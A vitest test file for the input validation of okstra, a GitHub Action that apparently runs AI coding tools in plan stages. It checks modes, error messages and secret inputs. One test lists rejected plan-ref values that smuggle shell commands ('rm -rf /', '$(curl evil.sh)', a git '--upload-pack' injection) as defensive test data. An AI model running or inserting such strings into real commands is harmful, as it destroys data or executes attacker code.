import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { INPUT_NAMES, parseInputs, SECRET_INPUTS, type ActionInputs, type InputName } from '../../src/action/inputs.js';
import { dispatchInputs } from '../../src/core/commands/dispatch.js';

const action = parse(readFileSync(join(import.meta.dirname, '..', '..', 'action.yml'), 'utf8')) as {
  inputs: Record<string, { description: string; default?: string }>;
  outputs: Record<string, { description: string }>;
  runs: { using: string; main: string; post: string };
};

/** Reads inputs the way the runner hands them over: action.yml defaults, then what the workflow set. */
function reader(given: Partial<Record<InputName, string>>): (name: InputName) => string {
  return (name) =>
    given[name] ?? (action.inputs[name]?.default?.startsWith('${{') ? '' : (action.inputs[name]?.default ?? ''));
}

function ok(given: Partial<Record<InputName, string>>): ActionInputs {
  const r = parseInputs(reader(given));
  if (!r.ok) throw new Error(r.errors.join('\n'));
  return r.inputs;
}

function errors(given: Partial<Record<InputName, string>>): string[] {
  const r = parseInputs(reader(given));
  return r.ok ? [] : r.errors;
}

describe('action.yml', () => {
  it('declares exactly the inputs the Action reads, each documented', () => {
    expect(Object.keys(action.inputs).sort()).toEqual([...INPUT_NAMES].sort());
    for (const [name, input] of Object.entries(action.inputs))
      expect(input.description.length, name).toBeGreaterThan(20);
  });

  it('declares the outputs main.ts and mode cli-cache-key write, a post step, and a current JavaScript runtime', () => {
    expect(Object.keys(action.outputs).sort()).toEqual([
      'branch',
      'cli-cache-key',
      'cli-cache-path',
      'head-commit',
      'remaining-queue',
      'report-json',
      'report-path',
      'run-status',
      'stage',
      'usage',
      'verdict',
    ]);
    expect(action.runs).toEqual({ using: 'node24', main: 'dist/index.js', post: 'dist/post.js' });
  });
});

describe('parseInputs', () => {
  it('reads a full stage request', () => {
    const inputs = ok({
      mode: 'stage',
      plan: '.okstra/plans/p.md',
      stage: '2',
      executor: 'codex',
      verifiers: 'claude, gemini',
      models: 'claude=opus,codex=gpt-5.5',
      'pr-number': '12',
      'check-run-id': '345',
      report: 'check,comment',
      'timeout-minutes': '30',
      'install-clis': 'true',
      'dry-run': 'False',
      trigger: 'comment',
      actor: 'mona',
      'anthropic-api-key': 'sk-ant-x',
      'github-token': 'ghs_y',
    });
    expect(inputs).toMatchObject({
      mode: 'stage',
      plan: '.okstra/plans/p.md',
      stage: 2,
      executor: 'codex',
      verifiers: ['claude', 'gemini'],
      models: { claude: 'opus', codex: 'gpt-5.5' },
      prNumber: 12,
      checkRunIds: { kind: 'single', id: 345 },
      timeoutMinutes: 30,
      installClis: true,
      dryRun: false,
      trigger: 'comment',
      actor: 'mona',
      githubToken: 'ghs_y',
      apiKeys: { anthropic: 'sk-ant-x', openai: null, gemini: null },
      config: '.okstra/config.yml',
      ledgerBranch: null,
    });
    expect([...inputs.report]).toEqual(['check', 'comment']);
  });

  it('defaults: mode stage, report summary, no dry run', () => {
    const inputs = ok({ plan: 'p.md', stage: '1' });
    expect(inputs).toMatchObject({
      mode: 'stage',
      dryRun: false,
      installClis: false,
      checkRunIds: { kind: 'none' },
      stages: null,
      trigger: null,
    });
    expect([...inputs.report]).toEqual(['summary']);
  });

  it('reads a chain with stages and a check run per stage', () => {
    const inputs = ok({ mode: 'chain', plan: 'p.md', stages: '2,3', 'check-run-id': '{"2": 123, "3": 124}' });
    expect(inputs.stages).toEqual([2, 3]);
    expect(inputs.checkRunIds.kind === 'by-stage' && [...inputs.checkRunIds.ids]).toEqual([
      [2, 123],
      [3, 124],
    ]);
  });

  it('reads what okstra set from the request: the same values as the inputs of those names', () => {
    const wire = dispatchInputs({
      mode: 'chain',
      planPath: 'p.md',
      planRef: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
      stages: [2, 3],
      prNumber: 12,
      executor: null,
      verifiers: null,
      models: {},
      checkRunIds: new Map([
        [2, 123],
        [3, 124],
      ]),
      trigger: 'comment',
      actor: 'mona',
    });
    const inputs = ok(wire as Partial<Record<InputName, string>>);
    expect(inputs).toMatchObject({
      mode: 'chain',
      stages: [2, 3],
      planRef: 'ec26c3e57ca3a959ca5aad62de7213c562f8c821',
      prNumber: 12,
      trigger: 'comment',
      actor: 'mona',
    });
    expect(inputs.checkRunIds.kind === 'by-stage' && [...inputs.checkRunIds.ids]).toEqual([
      [2, 123],
      [3, 124],
    ]);
    // The same value twice is one value; two values are refused, naming both.
    expect(ok({ plan: 'p.md', stage: '1', 'pr-number': '12', request: '{"v":1,"pr-number":12}' }).prNumber).toBe(12);
    expect(errors({ plan: 'p.md', stage: '1', 'pr-number': '13', request: '{"v":1,"pr-number":12}' })).toEqual([
      'input "pr-number" and request field "pr-number" disagree ("13" and "12"); give it once',
    ]);
  });

  it('refuses a bad or foreign request, naming the field', () => {
    expect(errors({ plan: 'p.md', stage: '1', request: '{"v":1,"check-run-id":"abc"}' })).toEqual([
      expect.stringMatching(/^input "request": request\.check-run-id: /),
    ]);
    expect(errors({ plan: 'p.md', stage: '1', request: '{"v":2}' })).toEqual([
      expect.stringContaining('input "request": request.v: this okstra reads request version 1, got 2'),
    ]);
    expect(errors({ plan: 'p.md', stage: '1', request: '{"v":1,"secret":"x"}' })).toEqual([
      expect.stringContaining('input "request": request.secret: not a field okstra knows'),
    ]);
    // A field of the right type whose value its input would refuse is named as the request's.
    expect(errors({ plan: 'p.md', stage: '1', request: '{"v":1,"trigger":"webhook"}' })).toEqual([
      expect.stringMatching(/^request field "trigger": got "webhook"; expected one of label, comment/),
    ]);
    expect(errors({ mode: 'continue', request: '{"v":1,"reset":true}' })).toEqual([
      expect.stringMatching(/^request field "reset": got "true"; expected false or no value with mode continue/),
    ]);
  });

  it('continue and status need no plan', () => {
    expect(ok({ mode: 'continue' }).plan).toBeNull();
    expect(ok({ mode: 'status', plan: 'p.md' }).plan).toBe('p.md');
  });

  it.each<[string, Partial<Record<InputName, string>>, string]>([
    [
      'mode',
      { mode: 'run' },
      'input "mode": got "run"; expected one of stage, chain, continue, status, reconcile, plan, approve, final, cli-cache-key, event',
    ],
    [
      'stage',
      { mode: 'stage', plan: 'p.md', stage: '0' },
      'input "stage": got "0"; expected a positive whole number (a stage of the plan)',
    ],
    [
      'stages',
      { mode: 'chain', plan: 'p.md', stages: '2,x' },
      'input "stages": got "2,x"; expected comma-separated positive whole numbers, e.g. "2,3"',
    ],
    [
      'executor',
      { plan: 'p.md', stage: '1', executor: 'Claude' },
      'input "executor": got "Claude"; expected claude, codex, gemini, copilot, a provider under `providers:` in the config, or command:<program>',
    ],
    [
      'verifiers',
      { plan: 'p.md', stage: '1', verifiers: 'codex,,command:' },
      'input "verifiers": got "codex,,command:"; expected comma-separated providers (claude, codex, gemini, copilot, a provider under `providers:`, command:<program>)',
    ],
    [
      'models',
      { plan: 'p.md', stage: '1', models: 'claude' },
      'input "models": models override "claude" needs the form <provider>=<model>, e.g. claude=opus',
    ],
    [
      'ledger-branch',
      { plan: 'p.md', stage: '1', 'ledger-branch': 'a..b' },
      'input "ledger-branch": got "a..b"; expected a branch name such as okstra-ledger',
    ],
    [
      'pr-number',
      { plan: 'p.md', stage: '1', 'pr-number': '#3' },
      'input "pr-number": got "#3"; expected a pull request number',
    ],
    [
      'report',
      { plan: 'p.md', stage: '1', report: 'slack' },
      'input "report": got "slack"; expected comma-separated targets from summary, check, comment',
    ],
    [
      'timeout-minutes',
      { plan: 'p.md', stage: '1', 'timeout-minutes': '0' },
      'input "timeout-minutes": got "0"; expected a number of minutes greater than 0 and at most 1440',
    ],
    [
      'install-clis',
      { plan: 'p.md', stage: '1', 'install-clis': 'yes' },
      'input "install-clis": got "yes"; expected true or false',
    ],
    ['dry-run', { plan: 'p.md', stage: '1', 'dry-run': '1' }, 'input "dry-run": got "1"; expected true or false'],
    [
      'trigger',
      { plan: 'p.md', stage: '1', trigger: 'cli' },
      'input "trigger": got "cli"; expected one of label, comment, schedule, dispatch, rerequest',
    ],
    [
      'plan',
      { plan: '../elsewhere.md', stage: '1' },
      'input "plan": got "../elsewhere.md"; expected a path inside the repository, e.g. .okstra/plans/my-plan.md',
    ],
    [
      'config',
      { plan: 'p.md', stage: '1', config: '/etc/okstra.yml' },
      'input "config": got "/etc/okstra.yml"; expected a path inside the repository, e.g. .okstra/config.yml',
    ],
  ])('a bad %s gets one message naming it and what is allowed', (_name, given, message) => {
    expect(errors(given)).toEqual([message]);
  });

  it('reads plan-ref: a full commit SHA or a safe ref name; empty is the checked-out commit', () => {
    const sha1 = 'ec26c3e57ca3a959ca5aad62de7213c562f8c821';
    const sha256 = 'a'.repeat(64);
    expect(ok({ plan: 'p.md', stage: '1' }).planRef).toBeNull();
    expect(ok({ plan: 'p.md', stage: '1', 'plan-ref': sha1 }).planRef).toBe(sha1);
    expect(ok({ plan: 'p.md', stage: '1', 'plan-ref': ` ${sha256} ` }).planRef).toBe(sha256);
    for (const ref of ['refs/pull/12/head', 'refs/heads/feature/x', 'feature/rate-limits', 'release-1.2'])
      expect(ok({ mode: 'status', 'plan-ref': ref }).planRef).toBe(ref);
  });

  it.each([
    'main; rm -rf /',
    '$(curl evil.sh)',
    '--upload-pack=touch /tmp/pwned',
    '-x',
    'main..feature',
    'HEAD@{1}',
    'HEAD~1',
    'feature^',
    'refs/heads/.hidden',
    'refs//heads/x',
    'branch.lock',
    'feature/',
    'a b',
    'HEAD',
    // Abbreviated or upper-case SHAs are ambiguous: only a full lowercase SHA names one commit.
    'ec26c3e',
    'EC26C3E57CA3A959CA5AAD62DE7213C562F8C821',
    'ec26c3e57ca3a959ca5aad62de7213c562f8c8211',
  ])('refuses the plan-ref %j with one message naming the input', (value) => {
    expect(errors({ plan: 'p.md', stage: '1', 'plan-ref': value })).toEqual([
      `input "plan-ref": got "${value}"; expected a full commit SHA (40 or 64 lowercase hex digits) or a ref name such as refs/pull/12/head or feature/x (letters, digits and . _ / -; no "..")`,
    ]);
  });

  it('ties inputs to the mode, one message per input', () => {
    expect(errors({ mode: 'stage' })).toEqual([
      'input "plan" is required with mode stage (the plan file, e.g. .okstra/plans/my-plan.md)',
      'input "stage" is required with mode stage',
    ]);
    expect(errors({ mode: 'chain', plan: 'p.md', stage: '2', 'check-run-id': '5' })).toEqual([
      'input "stage": got "2"; expected no value with mode chain (use "stages")',
      'input "check-run-id": got "5"; expected with mode chain a JSON object mapping stage numbers to check run ids, e.g. {"2": 123}',
    ]);
    expect(errors({ mode: 'stage', plan: 'p.md', stage: '1', stages: '1', 'check-run-id': '{"1": 5}' })).toEqual([
      'input "stages": got "1"; expected no value with mode stage (use "stage")',
      'input "check-run-id": got "{"1": 5}"; expected one check run id with mode stage',
    ]);
    expect(errors({ mode: 'status', 'check-run-id': '{"1": 5}' })).toEqual([
      'input "check-run-id": got "{"1": 5}"; expected no value with mode status',
    ]);
  });

  it('mode reconcile: the done stage and the plan, one check run, and reset only with it', () => {
    expect(ok({ mode: 'reconcile', plan: 'p.md', stage: '1', 'check-run-id': '77' })).toMatchObject({
      mode: 'reconcile',
      stage: 1,
      reset: false,
      checkRunIds: { kind: 'single', id: 77 },
    });
    expect(ok({ mode: 'reconcile', plan: 'p.md', stage: '1', reset: 'true' })).toMatchObject({
      mode: 'reconcile',
      reset: true,
    });
    expect(ok({ mode: 'reconcile', plan: 'p.md', stage: '1', reset: 'FALSE' }).reset).toBe(false);
    // A workflow's boolean input passes "false" when nobody set it: fine with any mode.
    expect(ok({ mode: 'stage', plan: 'p.md', stage: '1', reset: 'false' }).reset).toBe(false);
    expect(ok({ plan: 'p.md', stage: '1' }).reset).toBe(false);
    expect(errors({ mode: 'reconcile' })).toEqual([
      'input "plan" is required with mode reconcile (the plan file, e.g. .okstra/plans/my-plan.md)',
      'input "stage" is required with mode reconcile (the done stage whose branch moved)',
    ]);
    expect(
      errors({ mode: 'reconcile', plan: 'p.md', stage: '1', stages: '1', 'check-run-id': '{"1": 5}', reset: 'yes' }),
    ).toEqual([
      'input "stages": got "1"; expected no value with mode reconcile (use "stage")',
      'input "check-run-id": got "{"1": 5}"; expected one check run id with mode reconcile',
      'input "reset": got "yes"; expected true or false (true only with mode reconcile)',
    ]);
    expect(errors({ mode: 'stage', plan: 'p.md', stage: '1', reset: 'true' })).toEqual([
      'input "reset": got "true"; expected false or no value with mode stage (reset puts a done stage\'s moved branch back, with mode reconcile)',
    ]);
    expect(errors({ mode: 'chain', plan: 'p.md', reset: 'True' })).toEqual([
      expect.stringMatching(/^input "reset": got "True"; expected false or no value with mode chain/),
    ]);
  });

  it('reports every bad input at once, in action.yml order', () => {
    const out = errors({ mode: 'stage', plan: 'p.md', stage: 'x', report: 'nope', 'dry-run': 'maybe' });
    expect(out.map((e) => /^input "([^"]+)"/.exec(e)?.[1])).toEqual(['stage', 'report', 'dry-run']);
  });

  it('treats the token, the API keys and the subscription token as secrets', () => {
    expect([...SECRET_INPUTS].sort()).toEqual([
      'anthropic-api-key',
      'claude-code-oauth-token',
      'gemini-api-key',
      'github-token',
      'openai-api-key',
    ]);
  });
});

describe('modes plan and approve', () => {
  it('plan takes an issue, a goal and a plan id; approve a pull request, an approver and one review or comment', () => {
    expect(ok({ mode: 'plan', issue: '7', goal: 'keep it small' })).toMatchObject({
      mode: 'plan',
      issue: 7,
      goal: 'keep it small',
      planId: null,
    });
    expect(ok({ mode: 'plan', 'pr-number': '12' })).toMatchObject({ prNumber: 12, issue: null });
    expect(ok({ mode: 'approve', 'pr-number': '12', approver: 'octocat', 'review-id': '2345678901' })).toMatchObject({
      approver: 'octocat',
      reviewId: 2345678901,
      commentId: null,
    });
    expect(ok({ mode: 'approve', 'pr-number': '12', approver: 'octocat', 'comment-id': '99' }).commentId).toBe(99);
  });

  it('says what each mode is missing or must not have', () => {
    expect(errors({ mode: 'plan' })).toEqual([
      'input "issue" is required with mode plan unless "pr-number" (a re-plan of that plan pull request) or "goal" says what to plan',
    ]);
    expect(errors({ mode: 'plan', goal: 'x' })).toEqual([
      'input "plan-id" is required with mode plan when no "issue" names the plan (its default id comes from the issue)',
    ]);
    expect(errors({ mode: 'plan', issue: '7', 'plan-id': 'Bad Id' })).toEqual([
      'input "plan-id": got "Bad Id"; expected a plan id: lowercase letters, digits and . _ -, starting with a letter or digit, at most 63 characters',
    ]);
    expect(errors({ mode: 'approve' })).toEqual([
      'input "pr-number" is required with mode approve (the plan pull request)',
      'input "approver" is required with mode approve (the login whose review or comment approves)',
      'input "review-id" is required with mode approve, or "comment-id" (exactly one of them)',
    ]);
    expect(errors({ mode: 'approve', 'pr-number': '1', approver: 'a', 'review-id': '1', 'comment-id': '2' })).toEqual([
      'input "comment-id": got "2"; expected no value when "review-id" is given (exactly one of them)',
    ]);
    expect(errors({ mode: 'approve', 'pr-number': '1', approver: 'no spaces', 'review-id': '1' })).toEqual([
      'input "approver": got "no spaces"; expected a GitHub login, e.g. octocat',
    ]);
    expect(errors({ mode: 'stage', plan: 'p.md', stage: '1', issue: '7', 'review-id': '3' })).toEqual([
      'input "issue": got "7"; expected no value with mode stage (it is for mode plan)',
      'input "review-id": got "3"; expected no value with mode stage (it is for mode approve)',
    ]);
  });
});
